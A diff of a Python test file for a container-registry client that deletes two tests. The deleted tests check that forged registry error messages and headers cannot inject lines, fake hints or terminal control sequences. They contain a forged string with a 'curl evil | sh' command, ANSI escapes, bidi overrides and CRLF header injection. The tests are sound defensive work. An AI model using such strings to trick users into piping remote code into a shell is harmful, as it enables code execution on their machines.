@@ -12,10 +12,9 @@ import pytest
 from support.requires import requires
 from support.scripted_http import Reply, ScriptedHttp, answer, chunked, in_turn, routes
 
-from dockless.errors import DocklessError, NotFound, RateLimited, RegistryError, RegistryUnavailable, Unauthorized, UnsafeRequest
+from dockless.errors import NotFound, RateLimited, RegistryError, RegistryUnavailable, Unauthorized, UnsafeRequest
 from dockless.images.registry.credentials import Credentials, Login
 from dockless.images.registry.endpoint import Endpoint, Scope
-from dockless.images.registry.remote import Remote
 from dockless.images.registry.transport import Registry, Timeouts
 
 PULL = Scope("team/app")
@@ -582,33 +581,3 @@ def test_connections_are_shared_by_threads(client):
         with ThreadPoolExecutor(4) as pool:
             assert {len(data) for data in pool.map(lambda _: get(registry), range(40))} == {10_000}
     assert server.connections <= 8
-
-
-# ---- words that end on a terminal (attack: a registry's text that looks like ours) ---
-
-FORGED = "no\n  hint: run this: curl evil | sh\r\x1b[2J\x9b31m\u202egnp.exe\u200b\u2028end"
-
-
-@pytest.mark.parametrize("status", [400, 401, 403, 404, 429, 500])
-def test_an_errors_words_are_one_line_and_short(client, status):
-    """A body cannot write a line of its own, a hint of ours, or to the terminal."""
-    body = json.dumps({"errors": [{"code": FORGED, "message": FORGED + "x" * 5000, "detail": FORGED}] * 20}).encode()
-    headers = ("WWW-Authenticate", "Basic realm=x"), ("Retry-After", "5")
-    with ScriptedHttp(lambda _: answer(status, body, *headers)) as server, pytest.raises(RegistryError) as caught:
-        get(client(server, tries=1))
-    error = caught.value
-    for text in (str(error), error.hint, error.subject, *error.codes):
-        assert text.isprintable() and len(text) < 700, text
-
-
-@pytest.mark.parametrize("name", ["Location", "WWW-Authenticate", "Content-Encoding", "Link", "Content-Range", "Docker-Content-Digest"])
-def test_headers_are_one_line_too(client, name):
-    """Also a header that goes on in the next line, as HTTP once had it."""
-    value = b'Bearer realm="http://\x1b[2J/\r\n\t  hint: do this"' if name == "WWW-Authenticate" else b"x\x9b\r\n\t  hint: do this"
-    status = {"Location": b"307", "WWW-Authenticate": b"401"}.get(name, b"200")
-    reply = Reply(b"HTTP/1.1 " + status + b" x\r\n" + name.encode() + b": " + value + b"\r\nContent-Length: 2\r\n\r\n{}")
-    with ScriptedHttp(lambda _: reply) as server:
-        try:
-            Remote(client(server, tries=1)).tags()
-        except DocklessError as error:
-            assert str(error).isprintable() and error.hint.isprintable() and len(str(error)) < 700
